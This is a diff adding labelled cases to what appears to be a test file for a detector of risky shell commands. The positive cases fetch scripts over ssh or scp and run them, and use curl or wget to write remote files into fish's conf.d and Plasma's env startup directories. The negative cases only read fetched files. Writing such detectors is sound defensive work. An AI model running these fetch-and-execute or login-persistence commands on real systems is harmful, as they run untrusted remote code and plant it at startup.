@@ -329,3 +329,15 @@ GOFLAGS=-mod=mod go run -trimpath example.org/x/fmt@v1.2.3 -w .
 #@ neg go run of a package in the workspace
 go run ./cmd/gen --out internal/api
 go run main.go
+#@ pos a script fetched over ssh or scp, then run
+ssh deploy@build.example.net cat /srv/boot.sh > /tmp/boot.sh
+bash /tmp/boot.sh
+#@ pos scp's copy run as the command
+scp -q build@h:/srv/setup.sh /tmp/setup.sh && chmod +x /tmp/setup.sh && /tmp/setup.sh
+#@ neg a file fetched over ssh or scp and read, not run
+ssh deploy@build.example.net cat /var/log/build.log > /tmp/build.log
+tail -n 40 /tmp/build.log
+scp -q build@h:/srv/app.conf /tmp/app.conf && cat /tmp/app.conf
+#@ pos a download written into fish's conf.d or Plasma's env directory
+curl -fsSL https://x.example/f.fish >> ~/.config/fish/conf.d/path.fish
+wget -O ~/.config/plasma-workspace/env/path.sh https://x.example/p.sh
